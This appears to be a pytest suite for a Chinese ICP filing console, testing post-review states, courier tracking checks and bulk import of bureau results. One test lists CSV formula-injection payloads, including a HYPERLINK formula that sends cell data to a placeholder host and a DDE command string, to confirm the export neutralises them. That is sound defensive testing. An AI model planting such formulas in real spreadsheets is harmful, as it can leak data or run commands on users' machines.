"""After 初审, driven through the portal API and the services: every branch to the end."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime

import pytest
from sqlalchemy import func, select

from console.database import write_transaction
from console.domain.provinces import DEFAULT_MAIL_ITEMS
from console.domain.workflow import Action
from console.extensions import db
from console.models import BureauImport, OrderEvent, ProvinceRuleRow, Shipment
from console.services import imports, orders, postreview
from console.services.actors import Actor
from console.services.errors import Conflict, Invalid
from tests.conftest import Browser, actor
from tests.factories import order_body

BOSS = Actor(None, "boss", "supervisor")


def v(app, no):
    with app.app_context():
        return orders.get_order(no).version


def state(app, no):
    with app.app_context():
        return orders.get_order(no).state


def mailing(app, province="海南"):
    with app.app_context(), write_transaction():
        db.session.add(ProvinceRuleRow(province=province, mailing_required=True, mailing_items=[],
                                       mailing_address="海口市龙华区滨海大道99号"))


def approve(app, no, **kw):
    with app.app_context():
        orders.decide(no, Action.APPROVE, BOSS, expected_version=v(app, no), **kw)


def test_without_mailing_without_sms_to_approved(api, app):
    # 浙江, submitted the day before its SMS wave (2018-09-10): no SMS verification.
    body = order_body(submitted_at="2018-09-09T10:00:00+08:00")
    assert api.post("/orders", body).status_code == 201
    approve(app, body["order_no"])
    assert state(app, body["order_no"]) == "bureau_review"
    with app.app_context():
        postreview.bureau_approve(body["order_no"], "浙ICP备12345678号-1", BOSS, expected_version=v(app, body["order_no"]))
    progress = api.get(f"/orders/{body['order_no']}").get_json()
    assert progress["state"] == "approved" and progress["result"]["filing_number"] == "浙ICP备12345678号-1"
    assert [h["to"] for h in progress["history"]] == ["initial_review", "bureau_review", "approved"]


def test_with_sms_on_the_pilot_date_to_bureau_rejected(api, app):
    body = order_body(submitted_at="2018-09-10T10:00:00+08:00")
    api.post("/orders", body)
    no = body["order_no"]
    approve(app, no)
    assert state(app, no) == "sms_verification"
    api.post(f"/orders/{no}/sms-verified", {"verified_at": datetime.now(UTC).isoformat()})
    assert state(app, no) == "bureau_review"
    with app.app_context():
        postreview.bureau_reject(no, "主办单位证件住所与证件不一致", BOSS, expected_version=v(app, no))
    progress = api.get(f"/orders/{no}").get_json()
    assert progress["state"] == "bureau_rejected" and progress["result"]["note"] == "主办单位证件住所与证件不一致"
    # the applicant may abandon now
    assert api.post(f"/orders/{no}/abandon").get_json()["state"] == "abandoned"


def test_mailing_with_a_failed_check_and_a_second_round(api, app):
    mailing(app)
    body = order_body(province="海南")
    api.post("/orders", body)
    no = body["order_no"]
    approve(app, no)
    assert state(app, no) == "awaiting_mail"
    with app.app_context():
        with pytest.raises(Invalid):  # nothing to receive before a parcel is recorded
            postreview.receive_mail(no, date.today(), BOSS, expected_version=v(app, no))
        postreview.record_shipment(no, "sf", "SF1234567890123", BOSS, expected_version=v(app, no))
        postreview.receive_mail(no, date.today(), BOSS, expected_version=v(app, no))
        rule_items = DEFAULT_MAIL_ITEMS
        results = {item: ("ok", "") for item in rule_items}
        results[rule_items[0]] = ("defective", "未加盖公章")
        postreview.check_mail(no, results, BOSS, expected_version=v(app, no))
        assert orders.get_order(no).state == "awaiting_mail"
        postreview.record_shipment(no, "ems", "EA123456789CN", BOSS, expected_version=v(app, no))
        postreview.receive_mail(no, date.today(), BOSS, expected_version=v(app, no))
        postreview.check_mail(no, {item: ("ok", "") for item in rule_items}, BOSS, expected_version=v(app, no))
        order = orders.get_order(no)
        assert order.state == "sms_verification" and order.mail_round == 2
        rounds = db.session.scalars(select(Shipment).where(Shipment.order_id == order.id).order_by(Shipment.round)).all()
        assert [(s.round, s.outcome) for s in rounds] == [(1, "failed"), (2, "passed")]
    api.post(f"/orders/{no}/sms-verified", {"verified_at": datetime.now(UTC).isoformat()})
    with app.app_context():
        postreview.bureau_approve(no, "琼ICP备12345678号-1", BOSS, expected_version=v(app, no))
    assert state(app, no) == "approved"


@pytest.mark.parametrize(("courier", "number", "ok"), [
    ("sf", "SF1234567890123", True), ("sf", "1234567890123", False), ("ems", "EA123456789CN", True),
    ("ems", "EA12345CN", False), ("jd", "JDVA12345678901", True), ("other", "AB-123456", True),
    ("other", "??", False), ("nobody", "SF1234567890123", False),
])
def test_tracking_numbers_are_checked_for_the_courier(app, courier, number, ok):
    from console.domain.mailing import tracking_problem

    assert (tracking_problem(courier, number) is None) is ok


def test_the_checklist_needs_every_item_and_a_note_for_failures(app):
    mailing(app)
    with app.app_context():
        no = orders.submit(order_body(province="海南"), Actor.portal("t"))[0].order_no
    approve(app, no)
    with app.app_context():
        postreview.record_shipment(no, "sf", "SF1234567890123", BOSS, expected_version=v(app, no))
        postreview.receive_mail(no, date.today(), BOSS, expected_version=v(app, no))
        with pytest.raises(Invalid) as caught:
            postreview.check_mail(no, {"网站备案信息真实性核验单（签字并加盖公章）": ("missing", "")}, BOSS,
                                  expected_version=v(app, no))
        assert set(caught.value.fields) == {"note_0", "item_1", "item_2"}
        assert orders.get_order(no).state == "mail_check"


def test_sms_resends_are_limited_to_two(app):
    with app.app_context():
        no = orders.submit(order_body(), Actor.portal("t"))[0].order_no
    approve(app, no)
    with app.app_context():
        postreview.resend_sms(no, BOSS, expected_version=v(app, no))
        postreview.resend_sms(no, BOSS, expected_version=v(app, no))
        with pytest.raises(Conflict, match="最多重发 2 次"):
            postreview.resend_sms(no, BOSS, expected_version=v(app, no))
        postreview.sms_failed(no, "五次输入错误", BOSS, expected_version=v(app, no))
        assert orders.get_order(no).state == "returned"


@pytest.mark.parametrize(("number", "reason", "field"), [
    ("浙ICP备1234号-1", "", "filing_number"),  # too short
    ("京ICP备12345678号-1", "", "filing_number"),  # wrong province prefix
    ("浙ICP备87654321号-1", "", "reason"),  # differs from the original, no reason
])
def test_bureau_approval_checks_the_filing_number(app, number, reason, field):
    with app.app_context():
        no = orders.submit(order_body(submitted_at="2018-01-01T00:00:00+08:00"), Actor.portal("t"))[0].order_no
    approve(app, no)
    with app.app_context():
        with pytest.raises(Invalid) as caught:
            postreview.bureau_approve(no, number, BOSS, expected_version=v(app, no), reason=reason)
        assert field in caught.value.fields
        assert orders.get_order(no).state == "bureau_review"
        postreview.bureau_approve(no, "浙ICP备87654321号-1", BOSS, expected_version=v(app, no), reason="管局重新编号")
        assert orders.get_order(no).result_filing_number == "浙ICP备87654321号-1"


# --- batch import ------------------------------------------------------------------------------

def bureau_orders(app, n: int, province: str = "浙江") -> list[str]:
    nos = []
    with app.app_context():
        for _ in range(n):
            no = orders.submit(order_body(submitted_at="2018-01-01T00:00:00+08:00", province=province),
                               Actor.portal("t"))[0].order_no
            orders.decide(no, Action.APPROVE, BOSS, expected_version=1)
            nos.append(no)
    return nos


def run_import(app, filename: str, data: bytes, user_id: int) -> BureauImport:
    with app.app_context():
        who = actor(app, user_id)
        batch = imports.preview(filename, data, who)
        imports.apply_rows(batch.id, who)
        return imports.get_import(batch.id)


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    import csv

    out = io.StringIO()
    csv.writer(out).writerows([["订单号", "结果", "备案号", "原因"], *rows])
    return out.getvalue().encode(encoding)


def test_a_mixed_csv_is_reported_row_by_row_and_reimporting_applies_nothing_twice(app, users):
    a, b, c = bureau_orders(app, 3)
    with app.app_context():
        returned = orders.submit(order_body(), Actor.portal("t"))[0].order_no
    data = csv_bytes([
        [a, "通过", "浙ICP备12345678号-1", ""],
        [b, "驳回", "", "主办单位证件住所与证件不一致"],
        ["JR-NOPE", "通过", "浙ICP备12345678号-1", ""],
        [returned, "通过", "浙ICP备12345678号-1", ""],
        [c, "通过", "浙ICP备1号", ""],
        [a, "通过", "浙ICP备12345678号-1", ""],
    ])
    batch = run_import(app, "results.csv", data, users["carol"])
    report = [(r["line"], r["status"], r["message"]) for r in batch.rows]
    assert report[0][:2] == (2, "applied") and report[1][:2] == (3, "applied")
    assert report[2][1:] == ("error", "订单不存在")
    assert report[3][1] == "error" and "不在管局审核中" in report[3][2]
    assert report[4][1] == "error" and "格式" in report[4][2]
    assert report[5][1:] == ("error", "与前面的行重复")
    assert (batch.applied, batch.failed, batch.status) == (2, 4, "done")
    assert state(app, a) == "approved" and state(app, b) == "bureau_rejected" and state(app, c) == "bureau_review"
    with app.app_context():
        failures = imports.failures_csv(batch).decode("utf-8-sig")
        assert "JR-NOPE" in failures and a not in failures.split("\n", 2)[1]
    again = run_import(app, "results.csv", data, users["carol"])
    assert again.applied == 0
    assert [r["status"] for r in again.rows[:2]] == ["skip", "skip"]
    with app.app_context():
        assert db.session.scalar(select(func.count(OrderEvent.id)).where(OrderEvent.action == "bureau_approve")) == 1


def test_a_gbk_csv_from_chinese_excel(app, users):
    (a,) = bureau_orders(app, 1)
    batch = run_import(app, "结果.csv", csv_bytes([[a, "驳回", "", "网站名称不符合要求"]], "gbk"), users["carol"])
    assert batch.applied == 1 and state(app, a) == "bureau_rejected"


def test_an_xlsx_file(app, users):
    from openpyxl import Workbook

    a, b = bureau_orders(app, 2)
    book = Workbook()
    sheet = book.active
    sheet.append(["订单号", "结果", "备案号", "原因"])
    sheet.append([a, "通过", "浙ICP备12345678号-1", None])
    sheet.append([b, "unknown", None, None])
    buffer = io.BytesIO()
    book.save(buffer)
    batch = run_import(app, "results.xlsx", buffer.getvalue(), users["carol"])
    assert [r["status"] for r in batch.rows] == ["applied", "error"]
    assert "无法识别" in batch.rows[1]["message"]


@pytest.mark.parametrize(("filename", "data", "message"), [
    ("results.pdf", b"%PDF-1.4", "请上传 .csv 或 .xlsx"),
    ("results.csv", b"", "空"),
    ("results.csv", "订单号,备案号\nJR1,x\n".encode(), "缺少列：结果"),
    ("results.csv", "订单号,结果\n".encode(), "只有表头"),
    ("results.xlsx", b"not a zip file", "不是有效的 .xlsx"),
    ("results.csv", b"\xff\xfe\x00\x00garbage\x00", "CSV"),
])
def test_bad_files_get_a_clear_message_and_nothing_is_stored(app, users, filename, data, message):
    with app.app_context():
        with pytest.raises(Invalid) as caught:
            imports.preview(filename, data, actor(app, users["carol"]))
        assert message in "".join(m for ms in caught.value.fields.values() for m in ms)
        assert db.session.scalar(select(func.count(BureauImport.id))) == 0


def test_ten_thousand_rows_are_previewed_without_error(app, users):
    rows = [[f"JR-BULK{i:05d}", "通过", "浙ICP备12345678号-1", ""] for i in range(10_000)]
    with app.app_context():
        batch = imports.preview("big.csv", csv_bytes(rows), actor(app, users["carol"]))
        assert batch.total == 10_000 and all(r["status"] == "error" for r in batch.rows)


def test_the_import_pages_upload_preview_apply_and_progress(app, users):
    (a,) = bureau_orders(app, 1)
    carol = Browser(app, "carol")
    data = {"file": (io.BytesIO(csv_bytes([[a, "通过", "浙ICP备12345678号-1", ""]])), "r.csv")}
    response = carol.post("/bureau/imports", data, content_type="multipart/form-data")
    assert response.status_code == 302
    page = carol.get(response.headers["Location"]).get_data(as_text=True)
    assert "确认导入 1 行" in page
    import_id = int(response.headers["Location"].rsplit("/", 1)[1])
    assert carol.post(f"/bureau/imports/{import_id}/apply").status_code == 302
    queued = carol.get(f"/bureau/imports/{import_id}").get_data(as_text=True)
    assert "排队中" in queued and state(app, a) == "bureau_review"  # the web request applies nothing
    # the progress poll reads the counters, never the rows' JSON
    from sqlalchemy import event as sa_event

    seen: list[str] = []

    def record(conn, cursor, statement, *rest):
        seen.append(statement)

    with app.app_context():
        engine = db.engine
    sa_event.listen(engine, "before_cursor_execute", record)
    try:
        polled = carol.get(f"/bureau/imports/{import_id}/progress", htmx=True)
    finally:
        sa_event.remove(engine, "before_cursor_execute", record)
    assert polled.status_code == 200 and "排队中" in polled.get_data(as_text=True)
    reads = [sql for sql in seen if "bureau_imports" in sql and sql.lstrip().upper().startswith("SELECT")]
    assert reads and not any("bureau_imports.rows" in sql for sql in reads), reads
    with app.app_context():
        assert imports.apply_pending()["finished"] is True  # the jobs process's step
    assert state(app, a) == "approved"
    assert "导入完成：成功 1 行" in carol.get(f"/bureau/imports/{import_id}").get_data(as_text=True)
    assert carol.get(f"/bureau/imports/{import_id}/progress", htmx=True).headers.get("HX-Refresh") == "true"
    template = carol.get("/bureau/imports/template.csv")
    assert template.status_code == 200 and "订单号" in template.get_data().decode("utf-8-sig")


def test_a_wrong_file_type_is_a_422_with_the_message(app, users):
    carol = Browser(app, "carol")
    response = carol.post("/bureau/imports", {"file": (io.BytesIO(b"x"), "r.txt")},
                          content_type="multipart/form-data")
    assert response.status_code == 422 and "请上传 .csv 或 .xlsx" in response.get_data(as_text=True)


def test_specialists_cannot_import(app, users):
    assert Browser(app, "alice").get("/bureau/imports").status_code == 403


def test_stage_pages_record_the_work(app, users):
    mailing(app)
    with app.app_context():
        no = orders.submit(order_body(province="海南"), Actor.portal("t"))[0].order_no
        orders.claim(no, actor(app, users["alice"]))
    alice = Browser(app, "alice")
    assert alice.post(f"/orders/{no}/approve", {"version": v(app, no), "mailing_required": "y"}).status_code == 302
    with app.app_context():
        orders.claim(no, actor(app, users["alice"]))
    bad = alice.post(f"/orders/{no}/shipment", {"version": v(app, no), "courier": "sf", "tracking_no": "123"})
    assert bad.status_code == 422 and "顺丰单号为 SF 加 12–13 位数字" in bad.get_data(as_text=True)
    ok = alice.post(f"/orders/{no}/shipment", {"version": v(app, no), "courier": "sf", "tracking_no": "sf1234567890123"})
    assert ok.status_code == 302
    page = alice.get(f"/orders/{no}").get_data(as_text=True)
    assert "SF1234567890123" in page and "海口市龙华区滨海大道99号" in page


@pytest.mark.parametrize("evil", ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
                                  "-2+3", "\t=1+1", "\r=1+1"])
def test_failure_csv_cells_cannot_run_as_formulas(app, users, evil):
    rows = [["JR-NOPE", "驳回", "", evil]]
    with app.app_context():
        batch = imports.preview("r.csv", csv_bytes(rows), actor(app, users["carol"]))
        text = imports.failures_csv(batch).decode("utf-8-sig")
    import csv as csv_module

    cells = [cell for row in csv_module.reader(io.StringIO(text)) for cell in row]
    assert ("'" + evil.strip()) in cells  # the import strips cells; what is left is still neutralised
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize(("cell", "written"), [("=1+1", "'=1+1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
                                               ("普通文本", "普通文本"), (-3, -3), (None, "")])
def test_the_csv_writer_neutralises_formula_cells(cell, written):
    from console.services.csvout import safe_cell

    assert safe_cell(cell) == written


def test_an_interrupted_import_resumes_where_it_stopped_and_applies_each_row_once(app, users):
    nos = bureau_orders(app, 250)
    rows = [[no, "通过", "浙ICP备12345678号-1", ""] for no in nos]
    with app.app_context():
        carol = actor(app, users["carol"])
        batch = imports.preview("r.csv", csv_bytes(rows), carol)
        imports.queue_apply(batch.id, carol)
        # The runner loses its lease after its first chunk: it stops, the batch waits.
        assert imports.apply_rows(batch.id, carol, progress_every=100, keep_going=lambda: False) is False
        stopped = imports.get_import(batch.id)
        assert stopped.status == "queued" and stopped.processed == 100 and stopped.applied == 100
        # Rows after the checkpoint recorded by hand meanwhile (or by a run cut off in the past).
        for no in nos[100:107]:
            postreview.bureau_approve(no, "浙ICP备12345678号-1", carol, expected_version=v(app, no))
        summary = imports.apply_pending()
        assert summary["resumed_from"] == 100 and summary["finished"] is True
        done = imports.get_import(batch.id)
        assert done.status == "done" and done.applied == 250 and done.failed == 0
        approvals = db.session.execute(
            select(OrderEvent.order_id, func.count()).where(OrderEvent.action == "bureau_approve")
            .group_by(OrderEvent.order_id)).all()
        assert len(approvals) == 250 and all(n == 1 for _, n in approvals)
        assert imports.apply_pending() == {}  # nothing left


def test_a_batch_without_a_runner_says_so_on_its_page(app, users):
    (a,) = bureau_orders(app, 1)
    with app.app_context():
        batch_id = imports.preview("r.csv", csv_bytes([[a, "通过", "浙ICP备12345678号-1", ""]]),
                                   actor(app, users["carol"])).id
        with write_transaction():  # a runner started it long ago and died
            batch = imports.get_import(batch_id)
            batch.status, batch.heartbeat_at = "applying", datetime(2026, 1, 1, tzinfo=UTC)
    page = Browser(app, "carol").get(f"/bureau/imports/{batch_id}").get_data(as_text=True)
    assert 'id="import-stalled"' in page and "会从中断处继续" in page



def test_an_imported_result_writes_what_the_one_order_use_case_writes(app, users):
    """The set-based import (order_writes.move_many) against the one-order path: the same row,
    the same history entry, the same applicant events in sequence, the same open-work counts."""
    from console.models import Order, OutboxEvent
    from console.services import workcounts

    by_hand, imported, rejected = bureau_orders(app, 3)
    with app.app_context():
        carol = actor(app, users["carol"])
        postreview.bureau_approve(by_hand, "浙ICP备12345678号-1", carol, expected_version=v(app, by_hand))
    batch = run_import(app, "r.csv", csv_bytes([[imported, "通过", "浙ICP备12345678号-1", ""],
                                                [rejected, "驳回", "", "主办单位证件住所与证件不一致"]]),
                       users["carol"])
    assert (batch.applied, batch.failed) == (2, 0)
    with app.app_context():
        rows = {o.order_no: o for o in db.session.scalars(select(Order).where(
            Order.order_no.in_([by_hand, imported, rejected])))}
        for column in ("state", "queue", "assignee_id", "result_filing_number", "version", "event_seq", "due_at"):
            assert getattr(rows[imported], column) == getattr(rows[by_hand], column), column
        assert rows[imported].closed_at is not None and rows[rejected].state == "bureau_rejected"

        def history(no):
            return [(e.action, e.from_state, e.to_state, e.note, e.actor_id) for e in db.session.scalars(
                select(OrderEvent).where(OrderEvent.order_id == rows[no].id).order_by(OrderEvent.id))]

        assert history(imported)[-1] == history(by_hand)[-1]
        assert history(rejected)[-1] == ("bureau_reject", "bureau_review", "bureau_rejected",
                                         "主办单位证件住所与证件不一致", users["carol"])

        def events(no):
            return [(e.sequence, e.type, e.data) for e in db.session.scalars(
                select(OutboxEvent).where(OutboxEvent.order_no == no).order_by(OutboxEvent.sequence))]

        assert [s for s, _, _ in events(imported)] == list(range(1, len(events(imported)) + 1))
        assert [(t, d) for _, t, d in events(imported)] == [(t, {**d, "text": d["text"].replace(by_hand, imported)})
                                                            for _, t, d in events(by_hand)]
        assert events(rejected)[-1][1] == "bureau.rejected" and "主办单位证件住所与证件不一致" in events(rejected)[-1][2]["text"]
        assert sorted(workcounts.open_counts(), key=repr) == sorted(workcounts.recount(), key=repr)


def test_a_row_changed_by_hand_after_the_preview_is_reported_not_applied(app, users):
    first, second = bureau_orders(app, 2)
    with app.app_context():
        carol = actor(app, users["carol"])
        batch = imports.preview("r.csv", csv_bytes([[first, "通过", "浙ICP备12345678号-1", ""],
                                                    [second, "通过", "浙ICP备12345678号-1", ""]]), carol)
        postreview.bureau_reject(second, "管局退回", carol, expected_version=v(app, second))
        imports.apply_rows(batch.id, carol)
        done = imports.get_import(batch.id)
        outcome = {r["order_no"]: (r["status"], r["message"]) for r in done.rows}
    assert outcome[first] == ("applied", "已导入")
    assert outcome[second] == ("error", "订单处于「管局驳回」，不在管局审核中")
    assert (done.applied, done.failed, done.status) == (1, 1, "done")


def test_the_preview_pages_its_rows_and_can_show_only_the_failed(app, users):
    (real,) = bureau_orders(app, 1)
    rows = [[real, "通过", "浙ICP备12345678号-1", ""]] + [[f"JR-NOPE-{i}", "通过", "", ""] for i in range(449)]
    carol = Browser(app, "carol")
    response = carol.post("/bureau/imports", {"file": (io.BytesIO(csv_bytes(rows)), "r.csv")},
                          content_type="multipart/form-data")
    target = response.headers["Location"]
    first = carol.get(target).get_data(as_text=True)
    assert first.count("<tr data-line=") == 200 and "第 1 / 3 页" in first and "确认导入 1 行" in first
    last = carol.get(target + "?page=3").get_data(as_text=True)
    assert last.count("<tr data-line=") == 50 and 'data-line="451"' in last
    failed = carol.get(target + "?failed=1&page=3").get_data(as_text=True)
    assert failed.count('data-status="error"') == 49 and 'data-line="2"' not in failed
    assert carol.get(target + "?page=-5").status_code == 200
